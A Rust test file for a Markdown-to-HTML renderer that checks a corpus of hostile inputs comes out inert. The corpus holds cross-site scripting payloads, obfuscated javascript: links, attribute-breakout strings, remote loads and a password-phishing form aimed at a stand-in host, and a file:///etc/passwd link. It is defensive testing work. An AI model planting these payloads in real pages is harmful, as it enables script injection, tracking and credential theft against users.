//! A hostile corpus: Markdown written to run script, load remote content or restyle the app.
//! Every output must be inert (see `common::assert_inert`), and the specific defences are
//! checked by name below.

mod common;

use common::{assert_inert, elements};
use herald_render::{code_to_html, diff_to_html, markdown_to_html};

/// Raw HTML and CSS attacks; the Markdown layer escapes them and the sanitizer would strip them.
const RAW_HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> inline",
    "<img src=x onerror=alert(1)>",
    "inline <img src=x onerror=alert(1)> image",
    "<img src=\"https://evil.example/x.png\">",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<svg onload=alert(1)><circle r=1/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=https://ok.example onclick=alert(1)>x</a>",
    "<x onclick=alert(1)>hi</x>",
    "<details open ontoggle=alert(1)>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<table><tr><td style=\"background:url(javascript:alert(1))\">x</td></tr></table>",
    "<!-- comment -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<form action=https://evil.example><input name=p type=password><button>go</button></form>",
    "<input type=text value=x autofocus onfocus=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"https://evil.example/x.css\"?>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <script>alert(1)</script>",
    "# <iframe src=https://evil.example>",
    "> <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "<https://ok.example/\"><script>alert(1)</script>>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
];

/// Markdown links whose target is not http, https or mailto: each must render as text only.
const UNSAFE_LINKS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript\t:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](tauri://localhost/settings)",
    "[x](//evil.example/x)",
    "[x](/settings)",
    "[x](#top)",
];

#[test]
fn raw_html_is_inert() {
    for input in RAW_HTML {
        assert_inert(input, &markdown_to_html(input));
    }
}

#[test]
fn raw_html_is_shown_as_text() {
    let out = markdown_to_html("<script>alert(1)</script>");
    assert!(
        out.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "raw HTML is escaped and visible, not silently dropped: {out}"
    );
    let out = markdown_to_html("inline <img src=x onerror=alert(1)> image");
    assert!(
        out.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "inline raw HTML is escaped too: {out}"
    );
}

#[test]
fn unsafe_link_schemes_keep_only_the_text() {
    for input in UNSAFE_LINKS {
        let out = markdown_to_html(input);
        assert_inert(input, &out);
        assert!(
            !out.contains("<a"),
            "a link with an unsafe or relative target must not become an anchor\ninput: {input:?}\noutput: {out}"
        );
        assert!(
            out.contains('x'),
            "the link text stays visible\ninput: {input:?}\noutput: {out}"
        );
    }
}

#[test]
fn javascript_links_leave_no_trace_of_the_url() {
    for input in [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
    ] {
        let out = markdown_to_html(input).to_ascii_lowercase();
        assert!(
            !out.contains("javascript:"),
            "the dropped target appears nowhere in the output\ninput: {input:?}\noutput: {out}"
        );
    }
}

#[test]
fn autolinks_with_unsafe_schemes_are_not_links() {
    for input in [
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<data:text/html,x>",
    ] {
        let out = markdown_to_html(input);
        assert_inert(input, &out);
        assert!(
            !out.contains("<a"),
            "an unsafe autolink is not an anchor\ninput: {input:?}\noutput: {out}"
        );
    }
}

#[test]
fn links_cannot_break_out_of_their_attribute() {
    for input in [
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
        "[x](<https://ok.example/\" onmouseover=\"alert(1)>)",
        "[x](https://ok.example/ \"title\" onclick=\"alert(1)\")",
        "[x](https://ok.example/ \"t\\\" onclick=\\\"alert(1)\")",
    ] {
        assert_inert(input, &markdown_to_html(input));
    }
}

#[test]
fn images_never_load() {
    for input in [
        "![x](https://evil.example/x.png)",
        "![x](http://evil.example/x.png \"title\")",
        "![x][r]\n\n[r]: https://evil.example/x.png",
        "[![x](https://evil.example/x.png)](https://evil.example/)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
        "![![nested](https://evil.example/a.png)](https://evil.example/b.png)",
    ] {
        let out = markdown_to_html(input);
        assert_inert(input, &out);
        assert!(
            out.contains("class=\"image-blocked\""),
            "an image becomes a placeholder\ninput: {input:?}\noutput: {out}"
        );
        let with_src = elements(&out)
            .into_iter()
            .find(|e| e.attributes.iter().any(|(name, _)| name == "src"));
        assert!(
            with_src.is_none(),
            "nothing has a src\ninput: {input:?}\noutput: {out}"
        );
    }
}

#[test]
fn image_placeholder_shows_alt_and_source() {
    let out = markdown_to_html("![a chart](https://evil.example/x.png)");
    assert!(out.contains("[image: a chart]"), "alt text is shown: {out}");
    assert!(
        out.contains("title=\"Remote image not loaded: https://evil.example/x.png\""),
        "the tooltip names the source that was not fetched: {out}"
    );
    let out = markdown_to_html("![x](javascript:alert(1))");
    assert!(
        !out.to_ascii_lowercase().contains("javascript"),
        "a non-http image source is not even quoted: {out}"
    );
}

#[test]
fn link_wrapping_a_remote_image_keeps_the_link_not_the_image() {
    let out = markdown_to_html("[![x](https://evil.example/x.png)](https://ok.example/)");
    let anchors: Vec<_> = elements(&out)
        .into_iter()
        .filter(|e| e.name == "a")
        .collect();
    assert_eq!(anchors.len(), 2, "one anchor, opened and closed: {out}");
    assert!(
        out.contains("href=\"https://ok.example/\""),
        "the link target is kept: {out}"
    );
    assert!(
        out.contains("image-blocked"),
        "the image inside is a placeholder: {out}"
    );
}

#[test]
fn code_fences_cannot_escape_their_block() {
    for input in [
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```python\n</span></code></pre><img src=x onerror=alert(1)>\n```",
        "```python\n\"\"\"<iframe src=https://evil.example>\"\"\"\n```",
        "    <script>alert(1)</script>",
    ] {
        let out = markdown_to_html(input);
        assert_inert(input, &out);
        assert!(
            out.contains("&lt;"),
            "the markup is shown escaped\ninput: {input:?}\noutput: {out}"
        );
    }
    for input in [
        "```<script>\nx\n```",
        "```python\" onmouseover=\"alert(1)\nx = 1\n```",
    ] {
        let out = markdown_to_html(input);
        assert_inert(input, &out);
        assert!(
            out.contains("code-block"),
            "a hostile info string still gives a code block\ninput: {input:?}\noutput: {out}"
        );
    }
}

#[test]
fn code_and_diff_output_is_inert() {
    let hostile = "</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>\n\"'&";
    for language in [
        None,
        Some("python"),
        Some("javascript"),
        Some("sql"),
        Some("json"),
        Some("\"><script>"),
    ] {
        let out = code_to_html(hostile, language);
        assert_inert(hostile, &out);
        assert!(
            out.contains("&lt;") && out.contains("&amp;"),
            "code is escaped for {language:?} (highlighting may split tokens): {out}"
        );
    }
    let diff = format!("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-{hostile}\n+<svg onload=alert(1)>\n");
    let out = diff_to_html(&diff);
    assert_inert(&diff, &out);
    assert!(
        out.contains("&lt;svg onload=alert(1)&gt;"),
        "diff lines are escaped: {out}"
    );
}
